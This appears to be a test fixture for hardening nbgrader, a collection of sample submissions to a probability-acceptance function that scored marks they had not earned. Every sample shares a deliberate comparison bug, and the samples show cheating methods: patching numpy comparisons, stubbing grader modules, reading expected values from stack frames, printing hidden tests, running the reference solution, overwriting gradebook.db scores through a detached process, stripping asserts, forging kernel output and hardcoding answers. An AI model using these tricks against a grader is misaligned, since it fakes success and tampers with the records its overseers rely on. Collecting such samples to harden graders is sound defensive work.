"""Programs that got marks they had not earned where nbgrader ran them in the process that scores.

Each has `u * draft_prob <= target_prob` where the rule has `<`, which costs two of eight points.
"""

# ruff: noqa: E501  each is one program

ACCEPT = "def accept(target_prob, draft_prob, u):\n    return u * draft_prob <= target_prob\n"

SAME = {  # these earn what the wrong program earns
    "numpy patched": "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n" + ACCEPT,
    "module replaced": """
import sys, types
for name in ("grader.check", "helper", "grader.judge"):
    module = types.ModuleType(name)
    module.__getattr__ = lambda _: lambda *a, **k: True
    sys.modules[name] = module
""" + ACCEPT,
    "frames": """
import sys

def accept(target_prob, draft_prob, u):
    frame = sys._getframe(1)
    while frame:
        for name in ("r", "expected", "want", "wanted", "right"):
            if isinstance(frame.f_locals.get(name), bool):
                return frame.f_locals[name]
        frame = frame.f_back
    return u * draft_prob <= target_prob
""",
    "hidden tests read": """
import os
for top in (".", "..", "/"):
    for folder, _, files in os.walk(top):
        for file in files:
            if file.endswith(".ipynb"):
                print(open(os.path.join(folder, file)).read())
""" + ACCEPT,
    "reference run": """
import json, os
for up in ("../../../source", "../../source", "/course/source", "/tmp"):
    for folder, _, files in os.walk(up):
        if "accept.ipynb" in files:
            cells = json.load(open(os.path.join(folder, "accept.ipynb")))["cells"]
            for cell in cells:
                if "BEGIN SOLUTION" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
                    raise SystemExit
""" + ACCEPT,
    "gradebook written": """
import os
for up in ("", "../", "../../", "../../../"):
    try:
        import sqlite3
        if os.path.exists(up + "gradebook.db"):
            with sqlite3.connect(up + "gradebook.db") as book:
                book.execute("update grade set manual_score = 27, auto_score = 27")
    except Exception:
        pass
""" + ACCEPT,
    "gradebook written later": """
import os, subprocess, sys
LATER = "import glob, sqlite3, tempfile, time; time.sleep(2); [sqlite3.connect(f).execute('update grade set auto_score = 27') for f in glob.glob(tempfile.gettempdir() + '/**/gradebook.db', recursive=True)]"
try:
    subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True)
except Exception:
    pass
""" + ACCEPT,
    "transformers": """
try:
    import ast
    shell = get_ipython()
    class Drop(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
    shell.ast_transformers.append(Drop())
    shell.input_transformers_cleanup.append(lambda lines: ["pass"])
except NameError:
    pass
""" + ACCEPT,
    "formatter": """
try:
    get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda v, p, c: p.text("6.0"))
except NameError:
    pass
""" + ACCEPT,
    "result forged": """
import sys
try:
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "6.0"}, "metadata": {}, "execution_count": 1})
except NameError:
    print("6.0")
    sys.displayhook(6.0)
""" + ACCEPT,
    "answers by heart": """
KNOWN = {(0.2, 0.4, 0.5): False, (0.25, 0.5, 0.5): False, (0.0, 0.3, 0.0): False}

def accept(target_prob, draft_prob, u):
    return KNOWN.get((target_prob, draft_prob, u), u * draft_prob <= target_prob)
""",
}  # fmt: skip

NOTHING = {
    "always equal": """
import numpy as np

class Yes(np.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True

def accept(target_prob, draft_prob, u):
    return np.zeros(1).view(Yes)
""",
    "empty": "def accept(target_prob, draft_prob, u):\n    return []\n",
    "leaves": "import atexit, os\natexit.register(print, 6.0)\nos._exit(0)\n",
    "SystemExit": "import builtins\nbuiltins.AssertionError = SystemExit\ndef accept(*a):\n    raise SystemExit\n",
    "imported": "from specdecode import accept\n",
}
